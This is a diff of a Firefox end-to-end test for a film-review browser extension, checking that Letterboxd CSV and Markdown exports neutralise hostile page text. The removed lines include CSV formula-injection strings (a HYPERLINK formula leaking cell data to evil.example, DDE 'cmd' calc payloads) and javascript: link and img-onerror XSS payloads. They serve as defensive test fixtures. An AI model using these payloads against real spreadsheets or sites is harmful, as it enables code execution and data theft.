@@ -17,11 +17,11 @@
  * seen as the page sees it, one <reel-notes-ui> element.
  */
 import { readFileSync } from 'node:fs';
-import Papa from 'papaparse';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import type { Page } from 'puppeteer-core';
 import { clickSaveHighlight, launchFirefox, openPopup, paintedHighlights, selectText, setSelection, tabIdOf, waitForDetection, type LaunchedFirefox } from './firefox';
 import { startServer, type PageServer } from '../browser/server';
+import { attackPage, expectSafeCsv, expectSafeMarkdown, exportAttacks } from '../support/export-attacks';
 
 declare const browser: any;
 
@@ -83,25 +83,6 @@ const painted = async (page: Page) => {
 };
 
 const controlsIn = (page: Page) => page.evaluate(() => document.querySelectorAll('reel-notes-ui, [data-reel-notes]').length);
-
-/** A page whose detection (film title, director, post title) carries the payloads; the rest is the demo review's prose. */
-function reviewClaiming(film: string, director: string, postTitle: string): string {
-  const ld = {
-    '@context': 'https://schema.org',
-    '@type': 'Review',
-    name: postTitle,
-    itemReviewed: { '@type': 'Movie', name: film, dateCreated: '2013-12-18', director: { '@type': 'Person', name: director } },
-    reviewRating: { '@type': 'Rating', ratingValue: 4, bestRating: 5 },
-    author: { '@type': 'Person', name: 'A Critic' },
-  };
-  const esc = (s: string) => s.replace(/&/g, '&amp;').replace(/</g, '&lt;');
-  return hostile(`<!doctype html><html lang="en"><head><meta charset="utf-8"><title>${esc(postTitle)}</title>
-<script type="application/ld+json">${JSON.stringify(ld).replace(/</g, '\\u003c')}</script></head>
-<body><article><h1 class="entry-title">${esc(postTitle)}</h1><div class="entry-content">
-<p>${esc(film)} is a film directed by ${esc(director)}, and this film review says what the critic thought of the story, the acting and the score.</p>
-<p>My rating: 4 out of 5 stars. This review contains spoilers about the ending of the film.</p>
-</div></article></body></html>`);
-}
 
 describe('a hostile page against the reader, in Firefox', () => {
   let review: Page;
@@ -342,25 +323,9 @@ describe('a hostile page against the reader, in Firefox', () => {
 
   it("exports: formulas from page text are neutralised in the Letterboxd CSV, the reader's words stay exact; Markdown has no live javascript: link and no remote image", async () => {
     const pixel = server.url('/pixel.gif');
-    const payloads = [
-      {
-        path: '/attack/formula-1.html',
-        film: '=HYPERLINK("http://evil.example/?"&A1,"Her")',
-        director: "@SUM(1+1)*cmd|' /C calc'!A0",
-        postTitle: `[watch now](javascript:alert(1)) ![](${pixel}) review`,
-        // The reader's own review: it begins with "@" and must reach Letterboxd unchanged.
-        note: `@amigo tenías razón\n[x](javascript&#58;alert(1)) [y][evil] ![pixel](${pixel})\n\n[evil]: javascript:alert(1)`,
-      },
-      {
-        path: '/attack/formula-2.html',
-        film: "+cmd|' /C calc'!A0",
-        director: "-2+3+cmd|' /C calc'!A0",
-        postTitle: '<img src=x onerror=alert(1)> review',
-        note: '- a list, as I write them\n=1+1 is mine too',
-      },
-    ];
+    const payloads = exportAttacks(pixel);
     for (const p of payloads) {
-      server.setPage(p.path, reviewClaiming(p.film, p.director, p.postTitle));
+      server.setPage(p.path, hostile(attackPage(p)));
       const page = await ff.browser.newPage();
       await page.goto(server.url(p.path));
       const t = await tabIdOf(ff, server.url(p.path));
@@ -375,31 +340,8 @@ describe('a hostile page against the reader, in Firefox', () => {
       await page.close();
     }
 
-    const rows = Papa.parse<Record<string, string>>(await exported('letterboxd'), { header: true, skipEmptyLines: true }).data;
-    for (const p of payloads) {
-      const row = rows.find((r) => r.Review === p.note);
-      // The reader's words, exactly; the page's words, with a leading ' so no spreadsheet runs them.
-      expect(row, `a row with the review ${JSON.stringify(p.note)}`).toBeDefined();
-      expect(row!.Title).toBe(`'${p.film}`);
-      expect(row!.Directors).toBe(`'${p.director}`);
-    }
-    // No cell from a page starts a formula.
-    for (const r of rows) for (const key of ['Title', 'Directors']) expect(r[key]).not.toMatch(/^[=+\-@\t\r]/);
-
-    const md = await exported('markdown');
-    // No inline or reference link to javascript: that a CommonMark renderer would make live: every one
-    // is escaped (\[ … \]), so no unescaped "](" or "]:" leads to it.
-    expect(md).not.toMatch(/(?<!\\)\]\(\s*<?\s*javascript/i);
-    expect(md).not.toMatch(/^\s*(?<!\\)\[[^\]]*(?<!\\)\]:\s*javascript/im);
-    // No image at all: the remote pixel is written as a link to it, fetched only if the reader follows it.
-    expect(md).not.toMatch(/(?<!\\)!\[/);
-    expect(md).toContain(`[pixel](<${pixel}>)`);
-    // The page's own text (its post title) is text: its link and image are escaped, its HTML too.
-    expect(md).toContain('\\[watch now\\](javascript\\:alert(1))');
-    expect(md).toContain('\\<img src=x onerror=alert(1)\\>');
-    expect(md).not.toMatch(/(?<!\\)<img/);
-    // And the reader's words are all there.
-    expect(md).toContain('tenías razón');
+    expectSafeCsv(await exported('letterboxd'), payloads);
+    expectSafeMarkdown(await exported('markdown'), pixel);
     expect(await readerData(pageId)).toEqual(before);
   });
 });
